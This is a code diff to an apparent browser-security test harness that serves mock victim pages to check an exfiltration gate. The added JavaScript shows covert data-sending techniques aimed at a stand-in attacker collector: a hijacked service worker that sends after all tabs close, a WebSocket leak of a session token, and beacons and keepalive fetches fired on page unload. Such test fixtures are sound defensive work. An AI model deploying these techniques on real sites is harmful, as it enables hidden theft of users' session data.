@@ -75,9 +75,13 @@ InjectionSites::InjectionSites() : m(std::make_unique<Impl>()) {
         }
         return res;
       },
-      [self](const net::HttpRequest& r, std::shared_ptr<net::WsPeer>, net::WsHandlers&) -> std::optional<net::HttpResponse> {
+      [self](const net::HttpRequest& r, std::shared_ptr<net::WsPeer>, net::WsHandlers& handlers) -> std::optional<net::HttpResponse> {
         std::lock_guard lock(self->mutex);
         self->collected.push_back("WEBSOCKET-OPEN " + r.target);
+        handlers.on_message = [self, target = r.target](std::string text) {
+          std::lock_guard lock(self->mutex);
+          self->collected.push_back("WEBSOCKET-MESSAGE " + target + " " + text.substr(0, 200));
+        };
         return std::nullopt;
       }));
 
@@ -153,6 +157,38 @@ InjectionSites::InjectionSites() : m(std::make_unique<Impl>()) {
       res.body = "{}";
     } else if (p == "/buy" || p == "/api/order") {
       res.body = page("Bought", "", "<h1>Order placed</h1>");
+    } else if (p == "/sw.js") {
+      // The site's service worker, turned: told a URL, it waits until no page of its origin is
+      // open any more (the tab left, so the tab's own hold of it ended), sends there, then tells
+      // its own site (/sw-sent) that it has.
+      res.content_type = "text/javascript";
+      res.body = "self.addEventListener('install', () => self.skipWaiting());"
+                 "self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));"
+                 "self.addEventListener('message', (e) => { if (!e.data || !e.data.send) return; e.waitUntil((async () => {"
+                 " for (let i = 0; i < 600; i++) { const open = await self.clients.matchAll({type: 'window', includeUncontrolled: true});"
+                 " if (open.length === 0) break; await new Promise((r) => setTimeout(r, 50)); }"
+                 " await fetch(e.data.send, {mode: 'no-cors'}).catch(() => 0);"
+                 " await fetch('/sw-sent', {mode: 'no-cors'}).catch(() => 0); })()); });";
+    } else if (p == "/live") {
+      // A page that keeps a socket to the attacker open from its first moment, and sends on it
+      // whatever it is handed later (window.leak).
+      res.body = page("Live", "", "<h1>Live</h1><p>Your session token: <code id=token>" + std::string(kToken) + "</code></p>"
+                      "<script>const ws = new WebSocket('ws" + collector_url.substr(4) + "/live-ws'); "
+                      "window.leak = (s) => { try { ws.send(s); } catch (e) {} };</script>");
+    } else if (p == "/framed") {
+      // A page with a frame on another site (localhost is not 127.0.0.1: another renderer).
+      std::string own = self->victim->url("");
+      std::string other = "http://localhost" + own.substr(own.rfind(':'));
+      std::string tag = r.param("tag").value_or("");
+      std::erase_if(tag, [](char c) { return !std::isalnum(static_cast<unsigned char>(c)); });
+      res.body = page("Framed", "", "<h1>Framed</h1><iframe id=other src='" + other + "/unload-frame?tag=" + tag + "'></iframe>");
+    } else if (p == "/unload-frame") {
+      // It sends as it is unloaded (pagehide and unload, a beacon and a keepalive fetch).
+      res.body = page("Frame", "", "<p>frame</p><script>const send = (k) => { navigator.sendBeacon('" + collector_url + "/unload-' + k + location.search, 'x'); "
+                      "fetch('" + collector_url + "/unload-' + k + '-fetch' + location.search, {method: 'POST', body: 'x', keepalive: true, mode: 'no-cors'}); };"
+                      "addEventListener('pagehide', () => send('pagehide')); addEventListener('unload', () => send('unload'));</script>");
+    } else if (p == "/sw-sent") {
+      res.body = "ok";
     } else if (p == "/many") {
       // The page with N subresources of the gate's overhead benchmark.
       int n = query_int(r.query, "n", 100);
